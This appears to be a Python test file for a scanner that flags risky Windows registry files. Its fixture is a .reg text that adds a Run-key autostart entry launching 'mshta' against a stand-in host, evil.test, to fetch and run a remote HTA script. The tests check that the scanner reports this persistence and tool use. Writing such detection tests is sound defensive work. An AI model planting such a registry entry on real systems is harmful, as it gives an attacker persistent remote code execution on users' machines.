"""Registry files."""

import pytest

from files.scanners.made import ask, signs
from unhook.files.scanners.registry import SCANNER

TEXT = """Windows Registry Editor Version 5.00

[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]
"a"="mshta http://evil.test/a.hta"

[HKEY_CURRENT_USER\\Software\\Example]
"b"=dword:00000001
"""


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_what_it_writes_and_runs(encoding: str) -> None:
    told = signs(ask(SCANNER, TEXT.encode(encoding), "a.reg"))
    run = "HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"
    assert told == {
        "registry-writes": f"{run}, HKEY_CURRENT_USER\\Software\\Example",
        "registry-runs": run,
        "script-persists": "currentversion\\run",
        "script-tools": "mshta",
    }


def test_other_text() -> None:
    assert not ask(SCANNER, b"[HKEY_CURRENT_USER\\a]", "a.reg").signs
